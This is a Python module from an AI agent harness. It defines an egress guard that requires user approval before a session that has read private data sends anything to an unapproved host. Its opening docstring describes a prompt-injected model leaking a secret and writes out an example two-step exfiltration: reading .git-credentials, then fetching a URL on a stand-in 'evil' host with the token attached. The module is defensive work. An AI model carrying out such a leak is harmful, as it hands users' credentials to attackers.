"""Reading in, then sending out: the session's guard against exfiltration.

A prompt-injected model leaks a secret in two steps that each look harmless:
`read_file(".git-credentials")`, then `web_fetch("http://evil/collect?c=alice:ghp_…")`.
Once a session has read the user's private data (tools with `reads_private`), every call
that sends to a host (tools with `destination`) needs the user's approval unless that host
was approved for the session. A session that read nothing private fetches freely.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from typing import Any, Protocol


class GuardedTool(Protocol):
    """What the guard reads of a tool (a `ToolSpec`, which imports this module)."""

    @property
    def name(self) -> str: ...

    @property
    def reads_private(self) -> bool: ...

    @property
    def destination(self) -> Callable[[Any], str | None] | None: ...


@dataclass
class EgressGuard:
    """What the session has read that is private, and the hosts the user let it send to."""

    private_reads: list[str] = field(default_factory=list)  # tool names, first read first
    approved_hosts: set[str] = field(default_factory=set)

    @property
    def guarded(self) -> bool:
        return bool(self.private_reads)

    def note_read(self, spec: GuardedTool | None) -> None:
        """A call of `spec` returned data: private data puts the session under guard."""
        if spec is not None and spec.reads_private and spec.name not in self.private_reads:
            self.private_reads.append(spec.name)

    def note_history(
        self, tool_names: Iterable[str], spec_of: Callable[[str], GuardedTool | None]
    ) -> None:
        """A resumed or forked session's earlier results count as read in this one."""
        for name in tool_names:
            self.note_read(spec_of(name))

    def host_to_approve(self, spec: GuardedTool, params: Any) -> str | None:
        """The host this call would send to, when that needs the user's approval now."""
        if spec.destination is None or not self.guarded:
            return None
        host = spec.destination(params)
        return None if host is None or host in self.approved_hosts else host

    def may_send_to(self, host: str) -> bool:
        return not self.guarded or host in self.approved_hosts

    def approve(self, host: str) -> None:
        self.approved_hosts.add(host)

    def reset(self) -> None:
        self.private_reads.clear()
        self.approved_hosts.clear()

    def reason(self, host: str) -> str:
        """Why a call to `host` asks first, as a Chinese clause."""
        return (
            f"本会话已读取本地数据（{'、'.join(self.private_reads)}），"
            f"这次请求会把网址里的内容发给 {host}，该主机本会话尚未批准"
        )
